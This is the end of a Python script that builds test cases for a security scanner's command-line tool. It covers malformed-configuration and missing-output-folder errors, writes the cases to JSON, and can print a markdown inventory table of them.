    case("config-unknown-option", {".bulwark.yml": "version: 1\nrules:\n  workflow-unpinned-action:\n    options: {polcy: hash-pin}\n",
                                   "a.txt": "x"}, ["scan", "CASE"], exit_codes=(2,), about="a misspelt option name")
    case("config-exclude-not-a-list", {".bulwark.yml": "version: 1\nexclude: 5\n", "a.txt": "x"}, ["scan", "CASE"], exit_codes=(2,),
         about="`exclude: 5`")
    case("output-missing-folder", {"a.txt": "x"}, ["scan", "CASE", "--output", "/nonexistent/dir/x.json", "--format", "json"],
         exit_codes=(2,), about="--output into a folder that does not exist")


def main():
    os.makedirs(OUT, exist_ok=True)
    for gen in (zip_cases, gzip_cases, tar_cases, parser_cases, yaml_cases, workflow_cases, big_script_case, agent_cases, secrets_cases, model_format_cases,
                walker_cases, bounds_cases, history_cases, big_file_cases, cli_cases, dependency_cases):
        gen()
    with open(os.path.join(OUT, "cases.json"), "w") as f:
        json.dump(CASES, f, indent=1)
    if "--markdown" in sys.argv:
        # The inventory table of docs/hostile-input.md.
        print("| Case | Command | What is crafted | Must hold |")
        print("|---|---|---|---|")
        for c in CASES:
            must = ", ".join(f"`{r}`" for r in c["must"]) or (" or ".join(f"`{r}`" for r in c["mustAny"]) if c["mustAny"] else "")
            nots = ", ".join(f"no `{r}`" for r in c["mustNot"])
            exits = "exit " + "/".join(str(e) for e in c["exitCodes"])
            holds = "; ".join(x for x in (exits, must and "reports " + must, nots) if x)
            cmd = " ".join(a if a != "CASE" else "DIR" for a in c["args"]).replace("CASE/", "DIR/")
            print(f"| `{c['name']}` | `bulwark {cmd}` | {c['about']} | {holds} |")
        return
    print(f"{len(CASES)} cases in {OUT}")


if __name__ == "__main__":
    main()
